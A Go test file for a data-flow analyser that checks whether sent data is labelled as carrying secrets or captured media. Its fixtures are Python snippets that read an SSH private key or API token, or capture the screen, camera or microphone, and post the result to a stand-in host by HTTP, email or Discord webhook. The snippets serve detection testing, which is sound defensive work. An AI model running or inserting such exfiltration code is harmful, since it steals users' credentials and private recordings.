package flow

import (
	"strings"
	"testing"
)

// TestCarriers: what an object of the outside was given is carried by what is
// made of it or sent with it.
func TestCarriers(t *testing.T) {
	const begin = `
import os, io, requests, zipfile, smtplib, urllib.request
p = os.path.expanduser("~/.ssh/id_rsa")
k = open(p, "rb").read()
`
	for _, tt := range []struct{ name, code, want string }{
		{"form", "import aiohttp\nform = aiohttp.FormData()\nform.add_field('file', open(p))\naiohttp.ClientSession().post('https://a.invalid', data=form)", "secret-file"},
		{"headers", "s = requests.Session()\ns.headers.update({'X': os.environ['API_TOKEN']})\ns.get('https://a.invalid')", "secret-variable"},
		{"embed", "import discord_webhook as d\nh = d.DiscordWebhook(url='https://a.invalid')\ne = d.DiscordEmbed()\ne.add_embed_field(name='n', value=k)\nh.add_embed(e)\nh.execute()", "secret-file"},
		{"attached", "import discord_webhook as d\nh = d.DiscordWebhook(url='https://a.invalid')\nh.add_file(file=k, filename='x')\nh.execute()", "secret-file"},
		{"attribute", "r = urllib.request.Request('https://a.invalid')\nr.data = k\nurllib.request.urlopen(r)", "secret-file"},
		{"message", "from email.mime.base import MIMEBase\nfrom email.mime.multipart import MIMEMultipart\nm = MIMEMultipart()\nb = MIMEBase('a', 'b')\nb.set_payload(k)\nm.attach(b)\nsmtplib.SMTP('a.invalid').send_message(m)", "secret-file"},
		{"memory", "b = io.BytesIO()\nb.write(k)\nrequests.post('https://a.invalid', data=b.getvalue())", "secret-file"},
		{"archive in memory", "b = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write(p)\nrequests.post('https://a.invalid', data=b)", "secret-file"},
		{"screen in memory", "from PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, format='PNG')\nrequests.post('https://a.invalid', data=b)", "screen"},
		{"screen in a file", "from PIL import ImageGrab\nv = ImageGrab.grab()\nv.save('/tmp/one.png')\nrequests.post('https://a.invalid', files={'f': open('/tmp/one.png', 'rb')})", "screen,file,written"},
		{"screen by its path", "import pyautogui\npyautogui.screenshot('/tmp/one.png')\nrequests.post('https://a.invalid', files={'f': open('/tmp/one.png', 'rb')})", "screen,file,written"},
		{"tools", "import mss\nwith mss.mss() as m:\n    v = m.grab(m.monitors[0])\n    mss.tools.to_png(v.rgb, v.size, output='/tmp/one.png')\nrequests.post('https://a.invalid', data=open('/tmp/one.png'))", "screen,file,written"},
		{"camera", "import cv2\nok, v = cv2.VideoCapture(0).read()\ncv2.imwrite('/tmp/one.png', v)\nrequests.post('https://a.invalid', data=open('/tmp/one.png'))", "camera,file,written"},
		{"sound", "import sounddevice, soundfile\nsoundfile.write('/tmp/one.wav', sounddevice.rec(9), 9)\nrequests.post('https://a.invalid', data=open('/tmp/one.wav'))", "camera,file,written"},
		{"frames", "import wave, pyaudio\ns = pyaudio.PyAudio().open()\nw = wave.open('/tmp/one.wav', 'wb')\nw.writeframes(s.read(9))\nw.close()\nrequests.post('https://a.invalid', data=open('/tmp/one.wav'))", "camera,file,written"},
		{"plain", "b = io.BytesIO()\nb.write(b'x')\nm = requests.Session()\nm.verify = False\nm.post('https://a.invalid', data=b.getvalue())", ""},
	} {
		trace := execute(t, begin+tt.code+"\n")
		last := &trace.Events[len(trace.Events)-1]
		if got := last.Labels.String(); tt.want == "" && got != "" || !strings.Contains(got, tt.want) {
			t.Errorf("%s: %s carries %q, want %q", tt.name, last.Name, got, tt.want)
		}
	}
}
